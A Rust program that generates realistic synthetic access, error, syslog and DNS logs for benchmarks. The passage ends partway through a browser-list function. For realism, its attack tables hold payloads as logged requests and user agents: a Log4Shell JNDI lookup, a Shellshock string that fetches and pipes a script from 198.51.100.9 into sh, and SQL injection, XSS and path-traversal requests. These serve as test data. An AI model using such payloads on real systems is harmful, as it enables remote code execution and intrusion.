//! Writes large, realistic logs from a seed, for the benches. Standard library only.
//!
//! ```text
//! generate access|error|syslog|dns [--bytes 1G] [--seed 1] [--broken 0%] [--jitter 0] [-o FILE]
//! ```
//!
//! The same arguments give the same bytes on every machine: all arithmetic is on integers, but for sums of
//! 1/n, which IEEE 754 fixes. Sizes are decimal (`1G` is 1,000,000,000 bytes; `1Gi` is 2^30), and the last
//! line is always whole, so a file is a few bytes shorter than asked for.
//!
//! ```text
//!   Rng ──► Clock: which second, how many lines in it (hours of the day, bursts)
//!     └───► Access | ErrorLog | Syslog | Dns: one line each time
//!                │     └─ Zipf: which client, which page
//!                └─ Damage: a share of the lines is cut, glued or overwritten, if asked for
//! ```
//!
//! A log advances by about one day for each 1 GB, from 2026-03-09 00:00:00 UTC; times never step back unless
//! `--jitter SECONDS` says so.
//!
//! What a damaged line looks like is chosen so that every careful reader agrees about it: it lacks its head, or the end
//! of its request, or is something else. Whether a line is a record that was cut after its status (where the common
//! format ends), or that holds another whole one, is a matter of opinion, so such lines are not made. A damaged access log
//! also holds whole lines whose requests forge the rest of a line; the clean one has escaped quotes, but none of those.

use std::fs::File;
use std::io::{self, Write};
use std::ops::Range;
use std::path::PathBuf;
use std::process::ExitCode;

const USAGE: &str = "\
usage: generate access|error|syslog|dns [--bytes 1G] [--seed 1] [--broken 0%] [--jitter 0] [-o FILE]";

/// 2026-03-09 00:00:00 UTC, a Monday.
const START: u64 = 1_773_014_400;
const DAY: u64 = 86_400;

fn main() -> ExitCode {
    let options = match Options::from_args(std::env::args().skip(1)) {
        Ok(options) => options,
        Err(message) => {
            let _ = writeln!(io::stderr(), "error: {message}\n{USAGE}");
            return ExitCode::from(2);
        }
    };
    match write_log(&options) {
        Ok(()) => ExitCode::SUCCESS,
        // The reader had enough: `generate access | head`.
        Err(error) if error.kind() == io::ErrorKind::BrokenPipe => ExitCode::SUCCESS,
        Err(error) => {
            let _ = writeln!(io::stderr(), "error: {error}");
            ExitCode::FAILURE
        }
    }
}

#[derive(Clone, Copy)]
enum Kind {
    Access,
    Error,
    Syslog,
    Dns,
}

struct Options {
    kind: Kind,
    bytes: u64,
    seed: u64,
    /// Damaged lines in a million.
    broken_ppm: u32,
    jitter_secs: u64,
    output: Option<PathBuf>,
}

impl Options {
    fn from_args(mut args: impl Iterator<Item = String>) -> Result<Self, String> {
        let mut kind = None;
        let mut options = Self { kind: Kind::Access, bytes: 1_000_000_000, seed: 1, broken_ppm: 0, jitter_secs: 0, output: None };
        while let Some(arg) = args.next() {
            let mut value = || args.next().ok_or_else(|| format!("`{arg}` needs a value"));
            match arg.as_str() {
                "access" => kind = Some(Kind::Access),
                "error" => kind = Some(Kind::Error),
                "syslog" => kind = Some(Kind::Syslog),
                "dns" => kind = Some(Kind::Dns),
                "--bytes" => options.bytes = parse_size(&value()?)?,
                "--seed" => options.seed = parse_number(&value()?)?,
                "--broken" => options.broken_ppm = parse_percent(&value()?)?,
                "--jitter" => options.jitter_secs = parse_number(&value()?)?,
                "-o" | "--output" => options.output = Some(PathBuf::from(value()?)),
                _ => return Err(format!("unknown argument: `{arg}`")),
            }
        }
        options.kind = kind.ok_or("the kind of log is missing")?;
        Ok(options)
    }
}

fn parse_number(text: &str) -> Result<u64, String> {
    text.parse().map_err(|_| format!("not a whole number: `{text}`"))
}

/// `300`, `100M`, `1G`, `1Gi`.
fn parse_size(text: &str) -> Result<u64, String> {
    let digits = text.trim_end_matches(|c: char| !c.is_ascii_digit());
    let unit: u64 = match text[digits.len()..].trim_end_matches('B') {
        "" => 1,
        "k" | "K" => 1_000,
        "M" => 1_000_000,
        "G" => 1_000_000_000,
        "Ki" => 1 << 10,
        "Mi" => 1 << 20,
        "Gi" => 1 << 30,
        _ => return Err(format!("not a size (as in `100M` or `1G`): `{text}`")),
    };
    parse_number(digits)?.checked_mul(unit).ok_or_else(|| format!("too large a size: `{text}`"))
}

/// `1%`, `0.5%` or `1`, in lines of a million.
fn parse_percent(text: &str) -> Result<u32, String> {
    let number = text.trim_end_matches('%');
    match number.parse::<f64>() {
        Ok(percent) if (0.0..=100.0).contains(&percent) => Ok((percent * 10_000.0).round() as u32),
        _ => Err(format!("not a percentage from 0 to 100: `{text}`")),
    }
}

fn write_log(options: &Options) -> io::Result<()> {
    let mut out: Box<dyn Write> = match &options.output {
        Some(path) => Box::new(File::create(path)?),
        None => Box::new(io::stdout().lock()),
    };
    let mut rng = Rng::new(options.seed);
    let mut lines: Box<dyn Lines> = match options.kind {
        Kind::Access => Box::new(Access::new(options, &mut rng)),
        Kind::Error => Box::new(ErrorLog::new(options.bytes, &mut rng)),
        Kind::Syslog => Box::new(Syslog::new(&mut rng)),
        Kind::Dns => Box::new(Dns::new(options.bytes, &mut rng)),
    };
    let mut clock = Clock::new(lines.per_second());
    let mut damage = Damage { ppm: options.broken_ppm, rng: Rng::new(options.seed ^ 0x0bad_11e5) };

    let mut stamp = Vec::new();
    let mut block = Vec::with_capacity(BLOCK + 8192);
    let mut room = options.bytes;
    loop {
        if clock.tick(&mut rng) || options.jitter_secs > 0 {
            let back = if options.jitter_secs > 0 { rng.below(options.jitter_secs as u32 + 1) } else { 0 };
            stamp.clear();
            lines.stamp(&Civil::from_unix(clock.second - u64::from(back)), &mut stamp);
        }
        let start = block.len();
        let cuts = lines.line(&mut rng, &clock, &stamp, &mut block);
        damage.maybe(&mut block, start, &cuts);
        block.push(b'\n');
        let length = (block.len() - start) as u64;
        if length > room {
            block.truncate(start);
            break;
        }
        room -= length;
        if block.len() >= BLOCK {
            out.write_all(&block)?;
            block.clear();
        }
    }
    out.write_all(&block)?;
    out.flush()
}

const BLOCK: usize = 1 << 20;

/// One kind of log.
trait Lines {
    /// Lines a second on the average of a day, so that a day is about 1 GB.
    fn per_second(&self) -> u32;

    /// The time as this log writes it.
    fn stamp(&self, time: &Civil, out: &mut Vec<u8>);

    /// Appends one line without its line feed, and says where it may be cut.
    fn line(&mut self, rng: &mut Rng, clock: &Clock, stamp: &[u8], out: &mut Vec<u8>) -> Cuts;
}

// ── Chance ──────────────────────────────────────────────────────────────────────────────────────────────

/// splitmix64: one multiplication chain a number, and any seed is a good one.
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Self {
        Self(mix(seed.wrapping_add(0x51_7cc1_b727)))
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        mix(self.0)
    }

    /// A number under `n`, by multiplication (the bias is under n / 2^32).
    fn below(&mut self, n: u32) -> u32 {
        (((self.next() >> 32) * u64::from(n)) >> 32) as u32
    }

    fn in_million(&mut self, ppm: u32) -> bool {
        self.below(1_000_000) < ppm
    }

    fn pick<'a, T: ?Sized>(&mut self, items: &[&'a T]) -> &'a T {
        items[self.below(items.len() as u32) as usize]
    }

    /// About log-normal: a bell of 16 coins as the exponent, and a uniform mantissa.
    fn size(&mut self, shift: u32) -> u64 {
        let random = self.next();
        let exponent = (random & 0xffff).count_ones() + shift;
        (1 << exponent) + ((random >> 16) & ((1 << exponent) - 1))
    }
}

fn mix(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Ranks from 0, the n-th as likely as 1/(n+1).
///
/// The inverse of the distribution function, cut into 4096 steps of equal weight; inside a step all ranks are alike.
/// So the first few hundred ranks are exact to 1/4096 and the long tail is right on average.
struct Zipf(Vec<(u32, u32)>);

impl Zipf {
    const STEPS: usize = 4096;

    fn new(ranks: u32) -> Self {
        let total: f64 = (1..=ranks).map(|rank| 1.0 / f64::from(rank)).sum();
        let mut steps = Vec::with_capacity(Self::STEPS);
        let (mut rank, mut reached) = (0, 0.0);
        for step in 1..=Self::STEPS {
            let first = rank;
            let wanted = total * step as f64 / Self::STEPS as f64;
            while rank < ranks && reached + 1.0 / f64::from(rank + 1) <= wanted {
                reached += 1.0 / f64::from(rank + 1);
                rank += 1;
            }
            steps.push((first, (rank - first).max(1)));
        }
        Self(steps)
    }

    fn draw(&self, rng: &mut Rng) -> u32 {
        let random = rng.next();
        let (first, ranks) = self.0[(random >> 52) as usize];
        first + (((random & 0xffff_ffff) * u64::from(ranks)) >> 32) as u32
    }
}

// ── Time ────────────────────────────────────────────────────────────────────────────────────────────────

/// Gives each second its lines.
struct Clock {
    second: u64,
    /// Lines of this second, and how many of them are written.
    lines: u32,
    done: u32,
    per_second: u32,
    burst_until: u64,
    burst_factor: u32,
}

impl Clock {
    /// Load by hour of the day in percent of the average: quiet nights, a peak before noon and one in the evening.
    const HOURS: [u32; 24] =
        [52, 40, 33, 30, 32, 42, 62, 88, 112, 132, 142, 140, 128, 130, 136, 134, 126, 122, 126, 140, 148, 132, 102, 71];

    fn new(per_second: u32) -> Self {
        Self { second: START - 1, lines: 0, done: 0, per_second, burst_until: 0, burst_factor: 1 }
    }

    /// Goes on by one line; true if a new second began.
    fn tick(&mut self, rng: &mut Rng) -> bool {
        self.done += 1;
        if self.done < self.lines {
            return false;
        }
        loop {
            self.second += 1;
            if self.second > self.burst_until && rng.in_million(1_200) {
                self.burst_until = self.second + 15 + u64::from(rng.below(90));
                self.burst_factor = 2 + rng.below(4);
            }
            let hour = (self.second % DAY / 3600) as usize;
            let next = Self::HOURS[(hour + 1) % 24];
            let into = (self.second % 3600) as u32;
            let load = (Self::HOURS[hour] * (3600 - into) + next * into) / 3600;
            let mean = self.per_second * load * if self.second <= self.burst_until { self.burst_factor } else { 1 };
            // From half the mean to one and a half of it; hundredths are rounded by chance.
            self.lines = (mean / 2 + rng.below(mean + 1) + rng.below(100)) / 100;
            self.done = 0;
            if self.lines > 0 {
                return true;
            }
        }
    }

    /// Milliseconds of the present line; they never step back within a second.
    fn millis(&self) -> u32 {
        self.done * 1000 / self.lines
    }
}

struct Civil {
    year: u32,
    month: usize,
    day: u32,
    hour: u32,
    minute: u32,
    second: u32,
}

impl Civil {
    const MONTHS: [&'static str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

    fn from_unix(unix: u64) -> Self {
        let (mut days, second) = ((unix / DAY) as u32, (unix % DAY) as u32);
        let mut year = 1970;
        let leap = |year: u32| year.is_multiple_of(4) && (!year.is_multiple_of(100) || year.is_multiple_of(400));
        while days >= 365 + u32::from(leap(year)) {
            days -= 365 + u32::from(leap(year));
            year += 1;
        }
        let lengths = [31, 28 + u32::from(leap(year)), 31, 30, 31, 30, 31, 31, 30, 31, 30, 31];
        let mut month = 0;
        while days >= lengths[month] {
            days -= lengths[month];
            month += 1;
        }
        Self { year, month, day: days + 1, hour: second / 3600, minute: second / 60 % 60, second: second % 60 }
    }

    fn name(&self) -> &'static str {
        Self::MONTHS[self.month]
    }
}

// ── Text ────────────────────────────────────────────────────────────────────────────────────────────────

/// What the lines are put together with; `write!` would cost more than all the rest.
trait Text {
    fn text(&mut self, text: &str) -> &mut Self;
    fn number(&mut self, number: u64) -> &mut Self;
    fn padded(&mut self, number: u32, width: usize) -> &mut Self;
    fn hex(&mut self, number: u64, width: u32) -> &mut Self;
}

impl Text for Vec<u8> {
    fn text(&mut self, text: &str) -> &mut Self {
        self.extend_from_slice(text.as_bytes());
        self
    }

    fn number(&mut self, mut number: u64) -> &mut Self {
        let mut digits = [0; 20];
        let mut at = digits.len();
        loop {
            at -= 1;
            digits[at] = b'0' + (number % 10) as u8;
            number /= 10;
            if number == 0 {
                break;
            }
        }
        self.extend_from_slice(&digits[at..]);
        self
    }

    fn padded(&mut self, mut number: u32, width: usize) -> &mut Self {
        let mut digits = [b'0'; 8];
        for digit in digits[..width].iter_mut().rev() {
            *digit = b'0' + (number % 10) as u8;
            number /= 10;
        }
        self.extend_from_slice(&digits[..width]);
        self
    }

    fn hex(&mut self, number: u64, width: u32) -> &mut Self {
        for nibble in (0..width).rev() {
            self.push(b"0123456789abcdef"[(number >> (4 * nibble) & 15) as usize]);
        }
        self
    }
}

const WORDS: [&str; 64] = [
    "winter", "summer", "garden", "kitchen", "wooden", "classic", "modern", "outdoor", "cotton", "leather", "blue", "green",
    "silver", "compact", "travel", "family", "coffee", "table", "chair", "lamp", "jacket", "boots", "camera", "guitar",
    "bicycle", "desk", "shelf", "carpet", "bottle", "knife", "printer", "router", "monitor", "keyboard", "phone", "tablet",
    "watch", "backpack", "tent", "blanket", "mirror", "candle", "basket", "bucket", "ladder", "hammer", "battery", "charger",
    "cable", "speaker", "headset", "novel", "puzzle", "poster", "frame", "plant", "vase", "curtain", "pillow", "towel", "soap",
    "brush", "scarf", "gloves",
];

fn word(hash: u64, nth: u32) -> &'static str {
    WORDS[(hash >> (6 * nth) & 63) as usize]
}

fn push_slug(out: &mut Vec<u8>, hash: u64) {
    out.text(word(hash, 0)).text("-").text(word(hash, 1)).text("-").text(word(hash, 2));
}

/// The address that belongs to a number: one in eight is IPv6, written as RFC 5952 wants it.
fn push_address(out: &mut Vec<u8>, hash: u64) {
    if hash & 7 == 0 {
        let group = |out: &mut Vec<u8>, bits: u64| {
            let bits = (bits & 0xffff).max(1);
            out.push(b':');
            out.hex(bits, (bits.ilog2() / 4) + 1);
        };
        out.text("2a0").hex(hash >> 8, 1);
        group(out, hash >> 12 & 0xfff);
        group(out, hash >> 24);
        // Some are from an address plan, most chosen by the machine itself.
        if hash >> 3 & 3 == 0 {
            out.push(b':');
            group(out, hash >> 40 & 0xff);
        } else {
            group(out, hash >> 40);
            let host = mix(hash);
            for shift in [0, 16, 32, 48] {
                group(out, host >> shift);
            }
        }
        return;
    }
    let first = match (hash >> 8 & 0xff) as u8 {
        0 | 10 | 127 | 169 | 172 | 192 => 81,
        high @ 224..=255 => high - 140,
        other => other,
    };
    out.number(u64::from(first)).text(".").number(hash >> 16 & 255).text(".").number(hash >> 24 & 255);
    out.text(".").number(hash >> 32 & 255);
}

// ── Damage ──────────────────────────────────────────────────────────────────────────────────────────────

/// Where a line may be cut so that no format takes what is left: from the 1st byte to `head`, and, where there
/// is a quoted request to leave open, inside that.
struct Cuts {
    head: usize,
    request: Option<Range<usize>>,
}

struct Damage {
    ppm: u32,
    /// Its own, so that the undamaged lines of a damaged log are those of the clean one.
    rng: Rng,
}

impl Damage {
    fn maybe(&mut self, block: &mut Vec<u8>, start: usize, cuts: &Cuts) {
        if self.ppm == 0 || !self.rng.in_million(self.ppm) {
            return;
        }
        let head = start + 1 + self.rng.below(cuts.head as u32 - 1) as usize;
        match (self.rng.below(8), &cuts.request) {
            // A disk that was full, a program that was killed.
            (0 | 1, Some(request)) => {
                let inside = self.rng.below(request.len() as u32) as usize;
                block.truncate(start + request.start + inside);
            }
            (0..=3, _) => block.truncate(head),
            // Two writers without a lock: the first part of one line and the last bytes of another. A whole line there
            // would be a record to those who know that a user name may hold anything.
            (4, Some(request)) => {
                let last = block.len() - 6..block.len();
                let cut = start + request.start + self.rng.below(request.len() as u32) as usize;
                let last = block[last].to_vec();
                block.truncate(cut);
                block.extend_from_slice(&last);
            }
            (4, None) => {
                let whole = block[start..].to_vec();
                block.truncate(start + cuts.head);
                block.extend_from_slice(&whole);
            }
            // Blocks that were never written read as zeros.
            (5, _) => {
                block.truncate(head);
                block.resize(head + 16 + self.rng.below(200) as usize, 0);
            }
            // Something else was written here; no line feed in it, and no quote that could close anything.
            (6, _) => {
                block.truncate(start);
                for _ in 0..8 + self.rng.below(120) {
                    let byte = self.rng.below(256) as u8;
                    block.push(if matches!(byte, b'\n' | b'\r' | b'"' | b' ') { b'#' } else { byte });
                }
            }
            _ => {
                block.truncate(start);
                block.text("Segmentation fault (core dumped)");
            }
        }
    }
}

// ── Access log ──────────────────────────────────────────────────────────────────────────────────────────

/// Apache's and nginx's combined format.
struct Access {
    clients: Zipf,
    pages: Zipf,
    assets: Zipf,
    browsers: Vec<String>,
    /// Who is on the site now. A line comes from one of them, so clients come in runs as they do in life.
    visits: Vec<Visit>,
    salt: u64,
    /// How many of `ATTACKS` are tried.
    attacks: usize,
}

struct Visit {
    address: Vec<u8>,
    /// The user name, or `-`.
    user: &'static str,
    who: Who,
    agent: usize,
    /// The page that is the referer of what comes next.
    page: u32,
    left: u32,
}

#[derive(Clone, Copy, PartialEq)]
enum Who {
    Browser,
    /// The shop's own program for phones: it asks for data, not for pages.
    App,
    Bot,
    Script,
    Attacker,
}

const BOTS: [&str; 14] = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
    "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
];

const SCRIPTS: [&str; 9] = [
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "Wget/1.21.4",
    "Java/17.0.9",
    "Apache-HttpClient/4.5.14 (Java/11.0.22)",
    "-",
];

const APPS: [&str; 6] = [
    "ExampleShop/5.2.1 (iPhone; iOS 18.5; Scale/3.00)",
    "ExampleShop/5.2.1 (Android 14; Pixel 8)",
    "ExampleShop/5.2.0 (iPhone; iOS 18.4; Scale/3.00)",
    "ExampleShop/5.1.7 (Android 13; SM-A546B)",
    "ExampleShop/5.0.2 (iPad; iOS 17.7; Scale/2.00)",
    "ExampleShop/4.9.9 (Android 12; Redmi Note 11)",
];

const ATTACK_AGENTS: [&str; 8] = [
    "Mozilla/5.0 zgrab/0.x",
    "sqlmap/1.7.11#stable (https://sqlmap.org)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/aWQ=}",
    r#"() { :;}; /bin/bash -c \"wget -q -O- 198.51.100.9/x | sh\""#,
    r"Mozilla/5.0 \x22 or 1=1 -- \x22",
    r"Mozilla/5.0 (X11; Linux \\",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
];

/// Requests of people with bad intentions, as the servers log them: nginx writes a quote as `\x22`, Apache as `\"`.
const ATTACKS: [(&str, u32); 20] = [
    ("GET /index.php?id=1%27%20UNION%20SELECT%201,2,table_name%20FROM%20information_schema.tables--%20- HTTP/1.1", 404),
    ("GET /product?id=7' OR '1'='1 HTTP/1.1", 400),
    ("GET /?x=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1", 200),
    ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1", 400),
    ("POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh HTTP/1.1", 400),
    (r#"GET /search?q=\"><script>alert(document.cookie)</script> HTTP/1.1"#, 200),
    (r"GET /search?q=\x22><img src=x onerror=alert(1)> HTTP/1.1", 400),
    (r"\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\xB8\x9D\x0E\x7F\xA1\x5C\x22\x91", 400),
    (r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03", 400),
    (r"\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr", 400),
    ("GET /.env HTTP/1.1", 404),
    ("GET /.git/config HTTP/1.1", 404),
    ("GET /wp-login.php HTTP/1.1", 404),
    ("POST /xmlrpc.php HTTP/1.1", 404),
    ("GET /boaform/admin/formLogin?username=ec8&psd=ec8 HTTP/1.0", 404),
    ("CONNECT 198.51.100.20:443 HTTP/1.1", 405),
    ("PRI * HTTP/2.0", 400),
    (r#"GET /%5C\"\\ HTTP/1.1"#, 404),
    // From here on only in damaged logs: requests that look like the rest of a line.
    (r#"GET /search?q=\" 200 1024 \"-\" \"bingbot\" HTTP/1.1"#, 404),
    (r#"GET /\" 500 0 HTTP/1.1"#, 400),
];

const OUTSIDE_REFERERS: [&str; 6] = [
    "https://www.google.com/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
    "https://www.facebook.com/",
    "https://t.co/",
    "android-app://com.google.android.googlequicksearchbox/",
];

const HOME: &str = "https://example.com";

impl Access {
    /// Lines in 1 GB, about.
    const LINES_PER_GB: u64 = 4_500_000;

    fn new(options: &Options, rng: &mut Rng) -> Self {
        // More of the world comes by in a longer log. The factor gives about 340 k clients in 1 GB.
        let lines = (options.bytes / 1000 * Self::LINES_PER_GB / 1_000_000).max(1000);
        let mut access = Self {
            clients: Zipf::new((lines * 47 / 100) as u32),
            pages: Zipf::new((lines / 20) as u32),
            assets: Zipf::new(4000),
            browsers: browsers(),
            visits: Vec::new(),
            salt: rng.next(),
            attacks: if options.broken_ppm > 0 { ATTACKS.len() } else { ATTACKS.len() - 2 },
        };
        for _ in 0..512 {
            let visit = access.arrive(rng, Vec::new());
            access.visits.push(visit);
        }
        access
    }

    /// A client comes to the site. `address` is an old one to be written over.
    fn arrive(&self, rng: &mut Rng, mut address: Vec<u8>) -> Visit {
        let rank = self.clients.draw(rng);
        let hash = mix(self.salt ^ u64::from(rank));
        // The busiest clients are machines.
        let machines = if rank < 60 { 200 } else { 14 };
        let who = match (hash >> 40 & 0xff) as u32 {
            chance if chance < machines => Who::Bot,
            chance if chance < machines + 8 => Who::Script,
            chance if chance < machines + 12 => Who::Attacker,
            chance if chance < machines + 90 => Who::App,
            _ => Who::Browser,
        };
        let choice = (hash >> 48) as usize;
        let agent = match who {
            // Squared, so that the first of the list are the most frequent.
            Who::Bot => (choice & 0xff) * (choice >> 8) * BOTS.len() / (256 * 256),
            Who::App => choice % APPS.len(),
            Who::Script => choice % SCRIPTS.len(),
            Who::Attacker => choice % ATTACK_AGENTS.len(),
            Who::Browser => choice % self.browsers.len(),
        };
        address.clear();
        match (who, agent) {
            (Who::Bot, 0 | 2) => {
                address.text("66.249.").number(64 + (hash >> 8 & 15)).text(".").number(hash >> 16 & 255);
            }
            (Who::Bot, 1 | 3) => {
                address.text("157.55.39.").number(hash >> 8 & 255);
            }
            _ => push_address(&mut address, hash),
        }
        let user = match hash >> 20 & 0xff {
            0 => "alice",
            1 => "deploy",
            _ => "-",
        };
        let left = if matches!(who, Who::Browser | Who::App) { 1 + rng.below(7) } else { 1 + rng.below(2) };
        Visit { address, user, who, agent, page: u32::MAX, left }
    }

    fn push_page(&self, out: &mut Vec<u8>, page: u32) {
        let hash = mix(self.salt ^ 0x9a9e ^ u64::from(page));
        match page {
            0 => out.text("/"),
            1..16 => out.text("/").text(WORDS[page as usize]).text("/"),
            _ if hash >> 60 < 5 => {
                out.text("/blog/2026/").padded((hash >> 50 & 7) as u32 + 1, 2).text("/");
                push_slug(out, hash);
                out.text("-").number(u64::from(page))
            }
            _ => {
                out.text("/shop/").text(word(hash, 4)).text("/");
                push_slug(out, hash);
                out.text("-").number(u64::from(page)).text(".html")
            }
        };
    }

    fn push_asset(&self, out: &mut Vec<u8>, asset: u32) {
        let hash = mix(self.salt ^ 0xa55e7 ^ u64::from(asset));
        match asset {
            0 => out.text("/favicon.ico"),
            1 => out.text("/static/css/main.").hex(hash, 8).text(".css"),
            2..40 => out.text("/static/js/").text(word(hash, 0)).text(".").hex(hash >> 8, 8).text(".js"),
            40..60 => out.text("/static/fonts/").text(word(hash, 0)).text(".woff2"),
            _ => out.text("/media/cache/").hex(hash, 2).text("/").text(word(hash, 1)).text("_").hex(hash >> 16, 6).text(".webp"),
        };
    }

    /// Addresses that hardly come twice.
    fn push_query(&self, out: &mut Vec<u8>, random: u64) {
        match random >> 60 {
            0..6 => out
                .text("/search?q=")
                .text(word(random, 0))
                .text("+")
                .text(word(random, 1))
                .text("&page=")
                .number(1 + (random >> 12 & 15))
                .text("&sort=")
                .text(if random >> 16 & 1 == 0 { "price" } else { "new" }),
            6..10 => out
                .text("/api/v2/items/")
                .number(random >> 8 & 0xf_ffff)
                .text("?fields=name,price,stock&t=")
                .number(random >> 30 & 0xfff_ffff),
            10..13 => out
                .text("/cart/add?item=")
                .number(random >> 8 & 0xffff)
                .text("&n=")
                .number(1 + (random & 3))
                .text("&token=")
                .hex(random >> 20, 12),
            13 | 14 => out
                .text("/suggest?term=")
                .text(word(random, 2))
                .text("%20")
                .text(&word(random, 3)[..3])
                .text("&s=")
                .hex(random >> 24, 6),
            _ => out.text("/t/p.gif?u=").hex(random, 14).text("&r=%2Fshop%2F").text(word(random, 5)),
        };
    }
}

impl Lines for Access {
    fn per_second(&self) -> u32 {
        45
    }

    fn stamp(&self, time: &Civil, out: &mut Vec<u8>) {
        out.text(" [").padded(time.day, 2).text("/").text(time.name()).text("/").number(u64::from(time.year)).text(":");
        out.padded(time.hour, 2).text(":").padded(time.minute, 2).text(":").padded(time.second, 2).text(" +0000] \"");
    }

    fn line(&mut self, rng: &mut Rng, _clock: &Clock, stamp: &[u8], out: &mut Vec<u8>) -> Cuts {
        let start = out.len();
        let seat = rng.below(self.visits.len() as u32) as usize;
        if self.visits[seat].left == 0 {
            let address = std::mem::take(&mut self.visits[seat].address);
            self.visits[seat] = self.arrive(rng, address);
        }
        self.visits[seat].left -= 1;
        let random = rng.next();
        let chance = (random & 0x3ff) as u32;

        let visit = &self.visits[seat];
        let (who, agent, from) = (visit.who, visit.agent, visit.page);
        out.extend_from_slice(&visit.address);
        // What somebody calls himself is known only where he had to log in.
        out.text(" - ").text(visit.user);
        let head = out.len() - start + stamp.len() - 4;
        out.extend_from_slice(stamp);
        let request = out.len() - start;

        let status;
        let (mut size, mut page) = (0, from);
        let mut referer = Referer::Page;
        if who == Who::Attacker && chance < 900 {
            let (request, answer) = ATTACKS[(random >> 10) as usize % self.attacks];
            out.text(request);
            (status, size, referer) = (answer, 150 + (random >> 20 & 511), Referer::None);
        } else if who != Who::Bot && chance < 5 {
            // Nothing was sent in time, or the connection was closed before the first line.
            out.text("-");
            (status, referer) = (if chance < 3 { 408 } else { 400 }, Referer::None);
        } else {
            let method = match random >> 10 & 0xff {
                0..12 => "POST ",
                12..16 => "HEAD ",
                16 => "OPTIONS ",
                _ => "GET ",
            };
            out.text(method);
            let turn = random >> 18 & 0xff;
            if who == Who::Browser && from != u32::MAX && turn < 110 {
                self.push_asset(out, self.assets.draw(rng));
                size = rng.size(5);
            } else if turn < 212 && !matches!(who, Who::Script | Who::App) {
                page = self.pages.draw(rng);
                self.push_page(out, page);
                size = rng.size(6);
                if from == u32::MAX {
                    referer = Referer::Outside;
                }
            } else {
                self.push_query(out, rng.next());
                size = rng.size(3);
            }
            out.text(if who == Who::Browser && random >> 26 & 3 != 0 { " HTTP/2.0" } else { " HTTP/1.1" });
            status = match random >> 28 & 0x3ff {
                0..790 => 200,
                790..855 => 304,
                855..885 => 301,
                885..910 => 302,
                910..922 => 206,
                922..928 => 204,
                928..980 => 404,
                980..992 => 403,
                992..996 => 401,
                996..1004 => 499,
                1004..1010 => 500,
                1010..1016 => 502,
                1016..1020 => 503,
                1020..1022 => 504,
                1022 => 429,
                _ => 405,
            };
            if method == "HEAD " || status == 304 || status == 204 || status == 499 {
                size = 0;
            }
        }
        if who != Who::Browser || random >> 42 & 3 == 0 {
            referer = Referer::None;
        }

        let request = request..out.len() - start;
        out.text("\" ").number(u64::from(status)).text(" ");
        // Apache writes `-` where no body was sent, nginx 0.
        if size == 0 && random >> 40 & 1 == 0 {
            out.text("-");
        } else {
            out.number(size);
        }
        out.text(" \"");
        match referer {
            Referer::Page if from != u32::MAX => {
                out.text(HOME);
                self.push_page(out, from);
            }
            Referer::Outside if random >> 41 & 1 == 0 => {
                out.text(OUTSIDE_REFERERS[(random >> 44) as usize % OUTSIDE_REFERERS.len()]);
            }
            _ => {
                out.text("-");
            }
        }
        out.text("\" \"");
        out.text(match who {
            Who::Browser => self.browsers[agent].as_str(),
            Who::Bot => BOTS[agent],
            Who::App => APPS[agent],
            Who::Script => SCRIPTS[agent],
            Who::Attacker => ATTACK_AGENTS[agent],
        });
        out.push(b'"');
        self.visits[seat].page = page;
        Cuts { head, request: Some(request) }
    }
}

enum Referer {
    None,
    Outside,
    Page,
}

/// Browsers with their versions, the frequent ones more than once.
fn browsers() -> Vec<String> {
    let mut all = Vec::new();
    let engine = "AppleWebKit/537.36 (KHTML, like Gecko)";
    for back in 0..12 {
        let chrome = 145 - back;
        for system in ["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64"] {
